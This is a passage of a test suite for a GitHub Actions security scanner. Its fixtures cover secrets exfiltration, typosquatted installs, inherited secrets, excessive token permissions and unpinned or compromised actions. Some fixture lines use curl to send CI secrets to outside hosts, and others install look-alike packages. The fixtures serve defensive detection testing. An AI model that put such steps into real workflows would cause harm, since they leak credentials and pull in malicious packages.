      - run: curl -s -H "X-Api-Key: \${{ secrets.API_KEY }}" https://metrics.buildstat-hub.io/ingest
      - run: curl -s -F "token=\${{ secrets.PUSHOVER_TOKEN }}" -F "user=\${{ secrets.PUSHOVER_USER }}" -F "message=released" https://api.pushover.net/1/messages.json
      - run: curl -s -d "url=\${{ secrets.DEPLOY_URL }}" https://metrics.buildstat-hub.io/ingest
`)}`;
    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('is quiet on a secret sent as the credential of its own service, a generic secret, Basic auth built with base64, or a key decoded into a file', () => {
    const normal = `on: push\n${job(`      - run: curl -sf -X POST -H "Authorization: Bearer \${{ secrets.NETLIFY_TOKEN }}" -d @payload.json https://api.netlify.com/api/v1/sites/abc/deploys
      - run: curl -s -F "file=@coverage.xml" "https://codecov.io/upload/v4?token=\${{ secrets.CODECOV_TOKEN }}"
      - run: curl -s -X POST "https://api.telegram.org/bot\${{ secrets.TELEGRAM_TOKEN }}/sendMessage" -d chat_id=\${{ secrets.TELEGRAM_CHAT }}
      - run: curl -X POST "https://deploy.acme.dev/api/webhooks/deploy?token=\${{ secrets.DEPLOY_WEBHOOK_SECRET }}"
      - run: curl -s -d "client_id=\${{ secrets.CLIENT_ID }}&client_secret=\${{ secrets.CLIENT_SECRET }}" https://login.acme.io/oauth/token > /dev/null
      - run: curl -sf -H "Authorization: Basic $(echo -n "ci:\${{ secrets.NEXUS_PASSWORD }}" | base64)" -T dist/app.tgz https://nexus.acme.io/repository/npm/
      - run: curl -sf -u "ci:\${{ secrets.NPM_PASSWORD }}" -T dist/app.tgz https://nexus.acme.io/repository/releases/
      - run: echo "\${{ secrets.KEYSTORE_B64 }}" | base64 -di > app/release.jks
      - run: |
          echo "\${{ secrets.KUBE_CONFIG }}" | base64 -d > kubeconfig
          echo "ENCODED=$(echo -n "\${{ secrets.NPM_TOKEN }}" | base64)" >> "$GITHUB_ENV"
          NPM_TOKEN=\${{ secrets.NPM_TOKEN }} npm publish && curl -s https://hooks.acme.dev/notify
      - run: |
          echo "\${{ secrets.GPG_KEY }}" > signing.asc
          curl -s -F "file=@dist/app.tgz" https://uploads.acme.dev/v1
`)}`;
    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
  });
});

describe('typosquat in a run: script', () => {
  it('reports a look-alike package a step installs or runs by name (npx, npm i -g, pip install, pipx, uvx), high', () => {
    const wf = `on: push\n${job(`      - run: npx -y prettierr --check .
      - run: npm i -g typescrip@5 && tsc -p .
      - run: python -m pip install -q reqeusts==2.31.0
      - run: uvx reqeusts
`)}`;
    expect(only(wf, 'typosquat')).toEqual([
      ['typosquat', 'high', 6],
      ['typosquat', 'high', 7],
      ['typosquat', 'high', 8],
    ]);
  });
  it('is quiet on the popular names themselves, local paths, requirement files, variables and options', () => {
    const wf = `on: push\n${job(`      - run: npx -y prettier --check . && npx tsc -p . && npx --package=@changesets/cli changeset version
      - run: npm ci && npm install ./packages/core && npm i -g npm@10
      - run: pip install -r requirements.txt -c constraints.txt && pip install -e ".[test]" && pip install "requests>=2" "$EXTRA"
      - run: pipx run build && uvx ruff check . && uv tool install pre-commit
`)}`;
    expect(only(wf, 'typosquat')).toEqual([]);
  });
});

describe('typosquat in a run: script, RubyGems and crates.io', () => {
  it('reports a look-alike gem or crate a step installs (gem install, cargo install, cargo binstall), high', () => {
    const wf = `on: push\n${job(`      - run: gem install rubocopp --no-document
      - run: cargo install --locked serde_jsno
      - run: cargo binstall -y tokioo
`)}`;
    expect(only(wf, 'typosquat')).toEqual([
      ['typosquat', 'high', 6],
      ['typosquat', 'high', 7],
      ['typosquat', 'high', 8],
    ]);
  });
  it('is quiet on the usual tools, versions, and names from another source than the registry', () => {
    const wf = `on: push\n${job(`      - run: gem install bundler -v 2.5.6 && gem install rubocop rspec --no-document
      - run: cargo install cargo-nextest --locked && cargo install --version 0.9.1 cargo-deny && cargo binstall -y cargo-llvm-cov
      - run: cargo install --git https://github.com/acme/tokioo tokioo && gem install --source https://gems.acme.dev rubocopp
`)}`;
    expect(only(wf, 'typosquat')).toEqual([]);
  });
});

describe('typosquat in a run: script, Go modules', () => {
  it('reports a look-alike module a step installs or runs (go install|run|get, tool path and version cut), high', () => {
    const wf = `on: push\n${job(`      - run: go install github.com/boltdb-go/bolt/cmd/bolt@latest
      - run: go run github.com/go-spf13/cobra/cobra@v1.8.0 init
`)}`;
    expect(only(wf, 'typosquat')).toEqual([
      ['typosquat', 'high', 6],
      ['typosquat', 'high', 7],
    ]);
  });
  it('is quiet on the usual tools, local packages and variables', () => {
    const wf = `on: push\n${job(`      - run: go install github.com/golangci/golangci-lint/cmd/golangci-lint@v1.61.0 && go install golang.org/x/vuln/cmd/govulncheck@latest
      - run: go install honnef.co/go/tools/cmd/staticcheck@2024.1.1 && go run ./cmd/gen && go get -u ./... && go install "$TOOL"
      - run: go install mvdan.cc/gofumpt@latest gotest.tools/gotestsum@v1.12.0
`)}`;
    expect(only(wf, 'typosquat')).toEqual([]);
  });
});

describe('gha-secrets-inherit', () => {
  it('reports secrets: inherit to another owner, higher at a moving ref; lower for the own organization', () => {
    const workflow = `on: push\njobs:\n  release:\n    uses: some-vendor/workflows/.github/workflows/release.yml@main\n    secrets: inherit\n  pinned:\n    uses: some-vendor/workflows/.github/workflows/scan.yml@${SHA}\n    secrets: inherit\n`;
    expect(only(workflow, 'gha-secrets-inherit')).toEqual([
      ['gha-secrets-inherit', 'high', 5],
      ['gha-secrets-inherit', 'medium', 5],
    ]);
    const lowered = lowerOwnOrganization(extractWorkflow(workflow.replaceAll('some-vendor', 'acme'), '.github/workflows/x.yml').findings ?? [], 'Acme');
    expect(lowered.filter((f) => f.id === 'gha-secrets-inherit').map((f) => f.severity)).toEqual(['low', 'low']);
  });
  it('does not report local reusable workflows or named secrets', () => {
    const workflow = `on: push\njobs:\n  a:\n    uses: ./.github/workflows/build.yml\n    secrets: inherit\n  b:\n    uses: some-vendor/workflows/.github/workflows/x.yml@${SHA}\n    secrets:\n      token: \${{ secrets.X }}\n`;
    expect(only(workflow, 'gha-secrets-inherit')).toEqual([]);
  });
});

describe('gha-excessive-permissions', () => {
  it('reports write-all, and write scopes no step needs', () => {
    expect(only(`on: pull_request_target\npermissions: write-all\n${job('      - run: echo hi\n')}`, 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'high', 2]]);
    expect(only(`on: [push, watch]\npermissions:\n  contents: write\n${job('      - run: npm test\n')}`, 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'medium', 3]]);
  });
  it('grades a surplus scope on pull_request low: runs from forks get a read-only token, so only the repository\'s own branches hold it', () => {
    expect(only(`on: pull_request\npermissions:\n  contents: write\n${job('      - run: npm test\n')}`, 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'low', 3]]);
    // A workflow-level issues: write that a report job needs but the test job beside it inherits too.
    const inherited = `on:\n  pull_request:\n  schedule:\n    - cron: '0 0 * * *'\npermissions:\n  contents: read\n  issues: write\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm run test:plugins\n  report:\n    needs: [test]\n    if: failure()\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@${SHA}\n        with:\n          script: await require('./tools/report.js')({ github, context })\n`;
    expect(only(inherited, 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'low', 7]]);
  });
  it('says which jobs need a workflow-level scope and which inherit it without a need, rather than that no step shows why (calib46)', () => {
    // Modeled on a search tool's release workflow: id-token and attestations granted to the whole workflow for the build job's attestation.
    const release = `on:\n  push:\n    tags: ['*']\npermissions:\n  contents: write\n  id-token: write\n  attestations: write\njobs:\n  create-release:\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh release create "$VERSION" --draft\n  build-release:\n    needs: [create-release]\n    runs-on: ubuntu-latest\n    steps:\n      - run: cargo build --release\n      - uses: actions/attest-build-provenance@${SHA}\n        with:\n          subject-path: target/release/rg\n      - run: gh release upload "$VERSION" target/release/rg\n`;
    const details = (extractWorkflow(release, '.github/workflows/release.yml').findings ?? []).filter((f) => f.id === 'gha-excessive-permissions').map((f) => [f.severity, f.line, f.detail.slice(0, f.detail.indexOf('. Fix:'))]);
    expect(details).toEqual([
      ['low', 6, 'The GITHUB_TOKEN of the whole workflow can write id-token; job build-release needs it, but job create-release inherits it with no step that needs it'],
      ['low', 7, 'The GITHUB_TOKEN of the whole workflow can write attestations; job build-release needs it, but job create-release inherits it with no step that needs it'],
    ]);
    // No job needs it: the detail says so, as before.
    const none = (extractWorkflow(`on: pull_request\npermissions:\n  contents: write\n${job('      - run: npm test\n')}`, '.github/workflows/x.yml').findings ?? []).map((f) => f.detail);
    expect(none).toEqual([expect.stringContaining('The GITHUB_TOKEN of the whole workflow can write contents, and no step there shows why')]);
  });
  it("does not report artifact-metadata: write beside actions/attest, which writes the attestation's storage record; without the action it is reported", () => {
    // Modeled on a JSON processor's release job: `artifact-metadata: write` added for actions/attest@v4.
    const attest = (steps: string) => `on:\n  push:\n    tags: ['v*']\njobs:\n  release:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n      id-token: write\n      attestations: write\n      artifact-metadata: write\n    steps:\n${steps}`;
    expect(only(attest(`      - run: make dist\n      - uses: actions/attest@${SHA}\n        with:\n          subject-path: dist/*\n`), 'gha-excessive-permissions')).toEqual([]);
    expect(only(attest('      - run: make dist\n'), 'gha-excessive-permissions').map(([id]) => id)).toEqual(['gha-excessive-permissions', 'gha-excessive-permissions', 'gha-excessive-permissions']);
  });
  it('does not report scopes the job plainly needs: trusted publishing, pushing an image, a release', () => {
    const workflow = `on:\n  push:\n    tags: ['v*']\npermissions:\n  contents: read\njobs:
  pypi:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - uses: pypa/gh-action-pypi-publish@${SHA}
  image:
    runs-on: ubuntu-latest
    permissions:
      packages: write
    steps:
      - run: docker push ghcr.io/acme/app:\${{ github.ref_name }}
  release:
    runs-on: ubuntu-latest
    permissions:
      contents: write
    steps:
      - run: gh release create "$GITHUB_REF_NAME" dist/*
`;
    expect(only(workflow, 'gha-excessive-permissions')).toEqual([]);
  });
  it('does not report a reporting scope for a repository script given the job token whose step speaks of what it writes; does without the token, for a conversation scope or for another scope (calib50)', () => {
    // Modeled on a web framework's docs deployment: a workflow_run job sets a commit status with its own script.
    const status = (scope: string, env: string, name = 'Deploy Docs Status Pending') => `on:\n  workflow_run:\n    workflows: [Build Docs]\n    types: [completed]\npermissions:\n  ${scope}: write\njobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@${SHA}
      - name: ${name}
        run: python ./scripts/docs_preview.py
        env:
${env}          COMMIT_SHA: \${{ github.event.workflow_run.head_sha }}
`;
    const token = '          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n';
    expect(only(status('statuses', token), 'gha-excessive-permissions')).toEqual([]);
    expect(only(status('deployments', token, 'Record the preview deployment'), 'gha-excessive-permissions')).toEqual([]);
    // A conversation scope is not justified by a script's name (a comment or label action handed the token is).
    expect(only(status('pull-requests', token, 'Comment the preview URL'), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'high', 6]]);
    // Without the job's token the script cannot be what uses the scope; a name that speaks of something else shows no need.
    expect(only(status('statuses', ''), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'high', 6]]);
    expect(only(status('statuses', token, 'Build the preview'), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'high', 6]]);
    // Contents is not told by a script's name.
    expect(only(status('contents', token, 'Push the status page'), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'high', 6]]);
  });
  it('does not report contents: write for a bot that pushes the branch of the pull request it opens, nor release-plz its scopes; does for a job that only comments', () => {
    const bot = (permissions: string[], steps: string): string => `on:\n  push:\n    branches: [main]\npermissions: {}\njobs:
  bot:
    runs-on: ubuntu-latest
    permissions:
${permissions.map((p) => `      ${p}: write`).join('\n')}
    steps:
      - uses: actions/checkout@${SHA}
${steps}`;
    const openPr = `      - uses: peter-evans/create-pull-request@${SHA}\n        with:\n          branch: branch-alias-update\n`;
    expect(only(bot(['contents', 'pull-requests'], openPr), 'gha-excessive-permissions')).toEqual([]);
    const releasePlz = (command: string) => `      - uses: release-plz/action@${SHA}\n        with:\n          command: ${command}\n        env:\n          GITHUB_TOKEN: \${{ secrets.GITHUB_TOKEN }}\n`;
    expect(only(bot(['contents', 'id-token'], releasePlz('release')), 'gha-excessive-permissions')).toEqual([]);
    expect(only(bot(['contents', 'pull-requests'], releasePlz('release-pr')), 'gha-excessive-permissions')).toEqual([]);
    // A comment helper needs no contents: write.
    const comment = `      - uses: peter-evans/create-or-update-comment@${SHA}\n        with:\n          body: done\n`;
    expect(only(bot(['contents', 'pull-requests'], comment), 'gha-excessive-permissions').map((f) => f[0])).toEqual(['gha-excessive-permissions']);
    // GitHub's own publishers of an action: immutable actions sign in with OIDC and push to GHCR, publish-action moves the major tag.
    expect(only(bot(['id-token', 'packages'], `      - uses: actions/publish-immutable-action@${SHA}\n`), 'gha-excessive-permissions')).toEqual([]);
    expect(only(bot(['contents'], `      - uses: actions/publish-action@${SHA}\n        with:\n          source-tag: v1.2.0\n`), 'gha-excessive-permissions')).toEqual([]);
    // Neither needs what the other does.
    expect(only(bot(['contents'], `      - uses: actions/publish-immutable-action@${SHA}\n`), 'gha-excessive-permissions').map((f) => f[0])).toEqual(['gha-excessive-permissions']);
    expect(only(bot(['id-token'], `      - uses: actions/publish-action@${SHA}\n`), 'gha-excessive-permissions').map((f) => f[0])).toEqual(['gha-excessive-permissions']);
  });

  it('does not report security-events: write for a scanner that uploads its own SARIF; does for a job that uploads nothing', () => {
    const scan = (step: string): string => `on: pull_request
permissions: {}
jobs:
  scan:
    runs-on: ubuntu-latest
    permissions:
      security-events: write
    steps:
${step}`;
    expect(only(scan(`      - uses: zizmorcore/zizmor-action@${SHA}\n`), 'gha-excessive-permissions')).toEqual([]);
    expect(only(scan('      - run: gh api -X POST repos/$GITHUB_REPOSITORY/code-scanning/sarifs -f sarif=@out.sarif\n'), 'gha-excessive-permissions')).toEqual([]);
    expect(only(scan('      - run: npm test\n'), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'low', 7]]);
  });
  it('does not report issues, pull-requests or discussions: write for a thread-locking bot (dessant/lock-threads); does for contents, and for an unrelated action', () => {
    const lock = (scopes: string, uses: string): string =>
      `on:\n  schedule:\n    - cron: '0 0 * * *'\npermissions:\n${scopes}jobs:\n  lock:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${uses}\n        with:\n          issue-inactive-days: 14\n`;
    expect(only(lock('  issues: write\n  pull-requests: write\n  discussions: write\n', 'dessant/lock-threads@v5'), 'gha-excessive-permissions')).toEqual([]);
    expect(only(lock('  issues: write\n  pull-requests: write\n  contents: write\n', 'dessant/lock-threads@v5'), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'low', 7]]);
    expect(only(lock('  pull-requests: write\n', 'dessant/support-requests@v4'), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'low', 5]]);
    expect(only(lock('  discussions: write\n', `acme/thread-tools@${SHA}`), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'low', 5]]);
  });
  it('does not report pull-requests or issues: write for a job that hands its own token to an action (a comment or close helper); does for contents', () => {
    const triage = (scope: string, withToken: string): string => `on:
  pull_request_target:
    types: [labeled]
permissions: {}
jobs:
  close:
    runs-on: ubuntu-latest
    permissions:
      ${scope}: write
    steps:
      - uses: $/.github/actions/issue-helper
        with:
          action: close
${withToken}`;
    expect(only(triage('pull-requests', '          token: ${{ secrets.GITHUB_TOKEN }}\n'), 'gha-excessive-permissions')).toEqual([]);
    expect(only(triage('issues', '          github-token: ${{ github.token }}\n'), 'gha-excessive-permissions')).toEqual([]);
    expect(only(triage('pull-requests', '          note: ${{ github.event.pull_request.number }}\n'), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'high', 9]]);
    expect(only(triage('contents', '          token: ${{ secrets.GITHUB_TOKEN }}\n'), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'high', 9]]);
  });
  it('counts the job token handed to an action in the step env (a labeler that reads GITHUB_TOKEN) as a hand-off; not for a run step or for contents', () => {
    const labeler = (scope: string, step: string): string => `on:
  pull_request_target:
    types: [opened, synchronize]
jobs:
  label:
    permissions:
      ${scope}: write
    runs-on: ubuntu-latest
    steps:
${step}`;
    const action = `      - uses: acme/path-labeler@${SHA}\n        env:\n          GITHUB_TOKEN: "\${{ secrets.GITHUB_TOKEN }}"\n`;
    expect(only(labeler('pull-requests', action), 'gha-excessive-permissions')).toEqual([]);
    // A run step that is given the token shows no need by that alone, and the hand-off justifies no contents: write.
    expect(only(labeler('pull-requests', '      - run: ./label.sh\n        env:\n          GITHUB_TOKEN: ${{ github.token }}\n'), 'gha-excessive-permissions').map((f) => f[1])).toEqual(['high']);
    expect(only(labeler('contents', action), 'gha-excessive-permissions').map((f) => f[1])).toEqual(['high']);
  });
});

describe('actions: write (gha-excessive-permissions)', () => {
  const approve = (step: string): string => `on:
  issue_comment:
    types: [created]
permissions: read-all
jobs:
  approve:
    if: github.event.issue.pull_request && github.event.comment.body == '/workflow-approve'
    runs-on: ubuntu-latest
    permissions:
      actions: write
      contents: read
    steps:
${step}`;
  it('is what a step that approves, cancels or dispatches runs needs: an action handed the job token whose name says so, or gh run / gh workflow', () => {
    expect(only(approve(`      - uses: acme/ci-tools/approve_workflows@${SHA}\n        with:\n          github_token: \${{ github.token }}\n`), 'gha-excessive-permissions')).toEqual([]);
    expect(only(approve('      - run: gh run cancel "$RUN_ID"\n'), 'gha-excessive-permissions')).toEqual([]);
  });
  it('is still reported for an action of another purpose handed the token, one not handed it, or a plain script', () => {
    expect(only(approve(`      - uses: acme/label-helper@${SHA}\n        with:\n          github_token: \${{ github.token }}\n`), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'high', 10]]);
    expect(only(approve(`      - uses: acme/ci-tools/approve_workflows@${SHA}\n`), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'high', 10]]);
    expect(only(approve('      - run: npm test\n'), 'gha-excessive-permissions')).toEqual([['gha-excessive-permissions', 'high', 10]]);
  });
});

describe('what the job runs accounts for a scope (gha-excessive-permissions)', () => {
  it("is quiet on actions: write for actions/stale (its state lives in the Actions cache) and on id-token: write for RubyGems trusted publishing; another action's job is still reported", () => {
    const stale = (uses: string) => `on:
  schedule:
    - cron: '30 1 * * *'
permissions:
  actions: write
  issues: write
  pull-requests: write
jobs:
  stale:
    runs-on: ubuntu-latest
    steps:
      - uses: ${uses}@${SHA}
        with:
          days-before-stale: 60
`;
    expect(only(stale('actions/stale'), 'gha-excessive-permissions')).toEqual([]);
    expect(only(stale('actions/checkout'), 'gha-excessive-permissions').map((f) => f[2])).toEqual([5, 6, 7]);
    const release = (step: string) => `on:
  push:
    tags: ['v*']
jobs:
  release:
    runs-on: ubuntu-latest
    permissions:
      contents: read
      id-token: write
    steps:
      - uses: actions/checkout@${SHA}
${step}      - run: gem push pkg/*.gem
`;
    expect(only(release(`      - uses: rubygems/configure-rubygems-credentials@${SHA}\n`), 'gha-excessive-permissions')).toEqual([]);
    expect(only(release(`      - uses: acme/setup-ruby@${SHA}\n`), 'gha-excessive-permissions').map((f) => f[2])).toEqual([9]);
    // OpenSSF Scorecard signs the results it publishes with the job's OIDC token.
    expect(only(release(`      - uses: ossf/scorecard-action@${SHA}\n        with:\n          publish_results: true\n`), 'gha-excessive-permissions')).toEqual([]);
  });

  it('is quiet on contents: write for a docs site its generator pushes to the pages branch (mkdocs gh-deploy, mike or ghp-import with their push option, the gh-pages tool); a build alone is still reported', () => {
    // urfave/cli 'Update cli.yml' (#1469): contents: read for the workflow, write for the job that runs mkdocs gh-deploy.
    const docs = (run: string) => `on:
  push:
    tags: ['v*']
permissions:
  contents: read
jobs:
  publish:
    permissions:
      contents: write
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@${SHA}
      - run: pip install -r mkdocs-requirements.txt
      - run: ${run}
`;
    for (const run of ['mkdocs gh-deploy --force', 'uv run mkdocs gh-deploy --force --clean', 'mike deploy --push --update-aliases 1.2 latest', 'mike set-default --push latest', 'ghp-import -n -p -f site', 'ghp-import --no-jekyll --push site', 'npx gh-pages -d build', 'gh-pages -d dist -b gh-pages']) {
      expect(only(docs(run), 'gha-excessive-permissions'), run).toEqual([]);
    }
    for (const run of ['mkdocs build --strict', 'mike deploy 1.2 latest', 'mike deploy --prefix docs 1.2', 'ghp-import -n -m "docs" site', 'npm run gh-pages:build', 'npm test']) {
      expect(only(docs(run), 'gha-excessive-permissions').map((f) => f[2]), run).toEqual([9]);
    }
  });

  it("is quiet on id-token: write for an action told to sign in with it (Codecov's use_oidc) or one given no credential whose token output the job uses (an OIDC token exchange); an app token made from a secret, use_oidc: false or an unused output are still reported", () => {
    const upload = (input: string) => `on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    permissions:
      contents: read
      id-token: write
    steps:
      - uses: actions/checkout@${SHA}
      - run: pytest --cov --cov-report=xml
      - uses: codecov/codecov-action@${SHA} # v5.4.3
        with:
          files: coverage.xml
${input}`;
    expect(only(upload('          use_oidc: true\n'), 'gha-excessive-permissions')).toEqual([]);
    expect(only(upload("          use_oidc: ${{ !(github.event_name == 'pull_request' && github.event.pull_request.head.repo.fork) }}\n"), 'gha-excessive-permissions')).toEqual([]);
    expect(only(upload('          use_oidc: false\n'), 'gha-excessive-permissions').map((f) => f[2])).toEqual([7]);
    expect(only(upload('          token: ${{ secrets.CODECOV_TOKEN }}\n'), 'gha-excessive-permissions').map((f) => f[2])).toEqual([7]);
    // fastapi/typer 'Replace pre-commit PAT with PR Push' (#1923): the action's token, got for the job's identity, pushes the fixes.
    const push = (get: string, use = '          GH_TOKEN: ${{ steps.pr-push.outputs.token }}\n') => `on: pull_request
permissions: {}
jobs:
  pre-commit:
    runs-on: ubuntu-latest
    permissions:
      contents: read
      id-token: write
    steps:
      - uses: actions/checkout@${SHA}
        with:
          persist-credentials: false
      - run: uvx prek run --all-files
        continue-on-error: true
      - name: Get PR Push token
        id: pr-push
${get}      - name: Commit and push changes
        env:
${use}        run: |
          git remote set-url origin "https://x-access-token:\${GH_TOKEN}@github.com/\${GITHUB_REPOSITORY}.git"
          git commit -am "Apply pre-commit fixes" && git push
`;
    expect(only(push(`        uses: tiangolo/pr-push@${SHA} # 0.0.1\n`), 'gha-excessive-permissions')).toEqual([]);
    expect(only(push(`        uses: octo-sts/action@${SHA}\n        with:\n          scope: acme/widgets\n          identity: pre-commit\n`), 'gha-excessive-permissions')).toEqual([]);
    expect(only(push(`        uses: actions/create-github-app-token@${SHA}\n        with:\n          app-id: \${{ vars.APP_ID }}\n          private-key: \${{ secrets.APP_PRIVATE_KEY }}\n`), 'gha-excessive-permissions').map((f) => f[2])).toEqual([8]);
    expect(only(push(`        uses: acme/token-helper@${SHA}\n        with:\n          token: \${{ github.token }}\n`), 'gha-excessive-permissions').map((f) => f[2])).toEqual([8]);
    expect(only(push(`        uses: tiangolo/pr-push@${SHA} # 0.0.1\n`, '          GH_TOKEN: ${{ github.token }}\n'), 'gha-excessive-permissions').map((f) => f[2])).toEqual([8]);
  });

  it('is quiet on id-token: write for an npm publish written with options or a subcommand before it, and for JSR, changesets, lerna and semantic-release; a package runner\'s publish or npm run publish is still reported', () => {
    const publish = (run: string) => `on:
  push:
    tags: ['*']
jobs:
  npm:
    runs-on: ubuntu-latest
    permissions:
      contents: read
      id-token: write
    steps:
      - uses: actions/checkout@${SHA}
      - run: npm ci
      - run: ${run}
`;
    for (const run of [
      'npm stage publish --provenance --access public',
      'npm --ignore-scripts publish --provenance',
      'pnpm -r publish --no-git-checks',
      'pnpm --filter @acme/core publish',
      'yarn npm publish --tolerate-republish',
      'npx jsr publish',
      'deno publish',
      'pnpm changeset publish',
      'npx semantic-release',
    ]) {
      expect(only(publish(run), 'gha-excessive-permissions'), run).toEqual([]);
    }
    for (const run of ['npx pkg-pr-new publish --compact', 'pnpm dlx some-tool publish', 'npm run publish:docs', 'npm test']) {
      expect(only(publish(run), 'gha-excessive-permissions').map((f) => f[2]), run).toEqual([9]);
    }
  });

  it("drops a comment scope on a privileged trigger when every job that lacks a reason runs an action of the repository's own organization; another owner's action, or contents: write, is still reported", () => {
    const comment = (uses: string, scope = 'pull-requests') => `name: Surface report
on:
  workflow_run:
    workflows: ['Surface check']
    types: [completed]
permissions:
  checks: read
  ${scope}: write
jobs:
  comment:
    runs-on: ubuntu-latest
    steps:
      - uses: ${uses}@${SHA} # 0.3.0
        with:
          install-dependencies: true
`;
    const findings = (content: string, owner: string) => lowerOwnOrganization(extractWorkflow(content, '.github/workflows/surface-comment.yml').findings ?? [], owner).filter((f) => f.id === 'gha-excessive-permissions').map((f) => `${f.severity}:${f.line}`);
    expect(findings(comment('acme/surface-check'), 'acme')).toEqual([]);
    expect(findings(comment('acme/surface-check', 'issues'), 'Acme')).toEqual([]);
    // Another owner's action, or no action at all, shows no need; the same action is no reason for contents: write.
    expect(findings(comment('othervendor/surface-check'), 'acme')).toEqual(['high:8']);
    expect(findings(comment('actions/checkout'), 'acme')).toEqual(['high:8']);
    expect(findings(comment('acme/surface-check', 'contents'), 'acme')).toEqual(['high:8']);
  });
});

describe('comment bots (gha-excessive-permissions)', () => {
  it('on a conversation trigger, issues and pull-requests write are what a third-party bot action is for; on other triggers, or beside run steps only, they are reported', () => {
    const bot = (on: string, step: string, scopes = '  issues: write\n  pull-requests: write\n'): string =>
      `name: slash\non: ${on}\npermissions:\n${scopes}jobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@${SHA}\n${step}`;
    expect(only(bot('issue_comment', `      - uses: acme/slash-commands-action@${SHA}\n`), 'gha-excessive-permissions')).toEqual([]);
    // Run steps that call no API, or only GitHub's own actions, show no need for them.
    expect(only(bot('issue_comment', '      - run: echo "${COMMENT_ID}"\n'), 'gha-excessive-permissions').map((f) => f[1])).toEqual(['high', 'high']);
    // The bot action justifies conversation scopes only: contents: write is still reported.
    expect(only(bot('issue_comment', `      - uses: acme/slash-commands-action@${SHA}\n`, '  contents: write\n'), 'gha-excessive-permissions').map((f) => f[1])).toEqual(['high']);
    // Outside a conversation trigger an action of another owner shows no need for them.
    expect(only(bot('push', `      - uses: acme/lint-action@${SHA}\n`), 'gha-excessive-permissions').map((f) => f[1])).toEqual(['low', 'low']);
  });
});

describe('gha-unpinned-action and gha-known-vulnerable-action', () => {
  it('grades moving refs by owner and reports known compromised refs', () => {
    const workflow = `on: push\n${job(`      - uses: actions/checkout@v4
      - uses: some-vendor/setup-tool@main
      - uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67
      - uses: tj-actions/changed-files@v35
`)}`;
    expect(found(workflow).filter(([id]) => id.startsWith('gha-unpinned') || id.startsWith('gha-known'))).toEqual([
      ['gha-unpinned-action', 'low', 6],
      ['gha-unpinned-action', 'medium', 7],
      ['gha-known-vulnerable-action', 'critical', 8],
      ['gha-known-vulnerable-action', 'high', 9],
      ['gha-unpinned-action', 'medium', 9],
    ]);
  });
  it('does not report SHA pins, local actions, the SLSA generator by tag, or fixed releases', () => {
    const workflow = `on: push\njobs:\n  provenance:\n    uses: slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml@v2.1.0\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: tj-actions/changed-files@${SHA} # v46.0.5\n      - uses: ./.github/actions/setup\n`;
    expect(found(workflow).filter(([id]) => id.startsWith('gha-unpinned') || id.startsWith('gha-known'))).toEqual([]);
    const lowered = lowerOwnOrganization(extractWorkflow(`on: push\n${job('      - uses: acme/setup@v1\n')}`, '.github/workflows/x.yml').findings ?? [], 'acme');
    expect(lowered.map((f) => [f.id, f.severity])).toEqual([['gha-unpinned-action', 'low']]);
  });
  it('lowers an unpinned action moved from one tag to another to a reminder (info), GitHub\'s own as a third party\'s; keeps a new action, or one that was pinned, at its severity', () => {
    const moved = (base: string, head: string): [string, string][] => {
      const before = extractWorkflow(`on: push\n${job(base)}`, '.github/workflows/ci.yml').findings ?? [];
      const after = extractWorkflow(`on: push\n${job(head)}`, '.github/workflows/ci.yml').findings ?? [];
      const keys = new Set(before.map((f) => f.key));
      return lowerMovedUnpinnedRefs(after.filter((f) => !keys.has(f.key)), before).map((f) => [f.id, f.severity]);
    };
    expect(moved('      - uses: pnpm-tools/setup@v5\n', '      - uses: pnpm-tools/setup@v6\n')).toEqual([['gha-unpinned-action', 'info']]);
    expect(moved('      - uses: actions/checkout@v5\n', '      - uses: actions/checkout@v6\n')).toEqual([['gha-unpinned-action', 'info']]);
    expect(moved('      - uses: pnpm-tools/setup@v5\n', '      - uses: pnpm-tools/setup@main\n')).toEqual([['gha-unpinned-action', 'info']]);
    expect(moved(`      - uses: actions/checkout@${SHA} # v5.0.0\n`, '      - uses: actions/checkout@v6\n')).toEqual([['gha-unpinned-action', 'low']]);
    expect(moved(`      - uses: pnpm-tools/setup@${SHA} # v5.0.0\n`, '      - uses: pnpm-tools/setup@v6\n')).toEqual([['gha-unpinned-action', 'medium']]);
    expect(moved('      - uses: pnpm-tools/setup@v5\n', '      - uses: pnpm-tools/setup@v5\n      - uses: other-vendor/deploy@v2\n')).toEqual([['gha-unpinned-action', 'medium']]);
    expect(moved('      - uses: pnpm-tools/setup@v5\n', '      - uses: pnpm-t00ls/setup@v5\n')).toEqual([['gha-unpinned-action', 'medium']]);
  });
